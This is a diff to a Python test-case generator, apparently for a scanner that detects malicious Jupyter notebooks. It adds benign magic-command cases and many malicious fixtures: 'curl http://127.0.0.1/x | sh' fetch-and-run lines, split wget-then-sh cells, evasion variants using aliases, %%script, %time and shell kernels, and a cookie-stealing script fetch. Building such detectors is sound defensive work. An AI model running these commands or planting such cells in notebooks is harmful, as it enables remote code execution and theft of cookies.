@@ -13,6 +13,10 @@ def make(cases):
     family.malicious("duplicate-source", "demo.ipynb", good.replace('"source": [', '"source": ["x = 1"], "source": ["!curl http://127.0.0.1/x | sh",', 1), "a cell's source twice")
     family.malicious("old-format", "demo.ipynb", json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "input": ["!curl http://127.0.0.1/x | sh"], "outputs": []}]}]}), "a shell line in the old format")
     family.malicious("checkpoint-copy", ".ipynb_checkpoints/demo-checkpoint.ipynb", notebook(code("!curl http://127.0.0.1/x | sh")), "a shell line in the hidden copy")
+    for name, language in [("bash", "bash"), ("bash", "python"), ("anything", "sh")]:
+        shell = json.loads(notebook(code("curl http://127.0.0.1/x | sh")))
+        shell["metadata"] = {"kernelspec": {"name": name, "language": language, "display_name": "x"}}
+        family.malicious(f"kernel-{name}-{language}", "demo.ipynb", json.dumps(shell), "cells that a shell reads")
     family.suspicious("broken", "demo.ipynb", good[:-40], "a cut notebook")
 
 
@@ -46,6 +50,9 @@ def ordinary():
         ("autoreload", [code("%load_ext autoreload\n%autoreload 2\nfrom net import Net")], "a line that loads modules again"),
         ("pip", [code("!pip install -q transformers accelerate"), code("%pip install datasets")], "lines that install well-known packages, as most notebooks have"),
         ("shell-harmless", [code("!ls -la\n!nvidia-smi")], "harmless shell lines"),
+        ("magics", [code("%%capture\n!pip install -q datasets\nimport os"), code("%%writefile train.py\nimport torch\nprint(torch.__version__)"), code("!python train.py --lr {lr}"), code("%env CUDA_VISIBLE_DEVICES=0\nlen?"), code("%%html\n<b>done</b>"), code("%%script false\nleft out")], "magic words as people use them"),
+        ("quotes", [code("text = \'\'\'\n!not a command\n%not magic\n\'\'\'"), code("print(text)")], "lines in a string that look like commands"),
+        ("awaits", [code("await model.run()"), code("7 % 2")], "awaiting outside of functions"),
         ("prose-about-shell", [prose("Run it with:\n\n```\npython train.py\n```\n")], "prose about a command"),
     ]
 
@@ -53,6 +60,16 @@ def ordinary():
 def bad():
     script = "<script>fetch('http://127.0.0.1/?c=' + document.cookie)</script>"
     return [
+        ("quote-over-cells", [code("x = \'\'\'"), code("import os\nos.system('curl http://127.0.0.1/x | sh')"), code("\'\'\'")], "malicious", "quotes that open in one cell and close in another"),
+        ("torn-cell", [code("def f(:"), code("import os\nos.system('curl http://127.0.0.1/x | sh')")], "malicious", "a cell that is no Python before one that is"),
+        ("shell-cell-tab", [code("\t%%bash\n\tcurl http://127.0.0.1/x | sh")], "malicious", "an indented cell of bash"),
+        ("shell-cell-captured", [code("%%capture\n%%sh\ncurl http://127.0.0.1/x | sh")], "malicious", "a cell of a shell in a captured cell"),
+        ("python-cell", [code("%%script python\nimport os\nos.system('curl http://127.0.0.1/x | sh')")], "malicious", "a cell of another Python"),
+        ("unheard-of-cell", [code("%%unheard_of\ncurl http://127.0.0.1/x | sh")], "malicious", "a cell by a magic word that nobody knows"),
+        ("time-line", [code("%time __import__('os').system('curl http://127.0.0.1/x | sh')")], "malicious", "a command in a timed line"),
+        ("alias", [code("%alias go curl http://127.0.0.1/x | sh"), code("%go")], "malicious", "a command under another name"),
+        ("filled", [code("tool = 'curl http://127.0.0.1/x'"), code("!{tool} | sh")], "malicious", "a command that stands in a name"),
+        ("two-cells", [code("!wget -q http://127.0.0.1/x -O x.sh"), code("!sh x.sh")], "malicious", "one cell fetches and another runs it"),
         ("shell-fetch", [code("!curl -s http://127.0.0.1/x.sh | sh")], "malicious", "a shell line that runs what it fetches"),
         ("shell-double", [code("!!wget -qO- http://127.0.0.1/x | bash")], "malicious", "the second form of a shell line"),
         ("shell-cell", [code("%%bash\ncurl http://127.0.0.1/x | sh\n")], "malicious", "a cell of bash"),
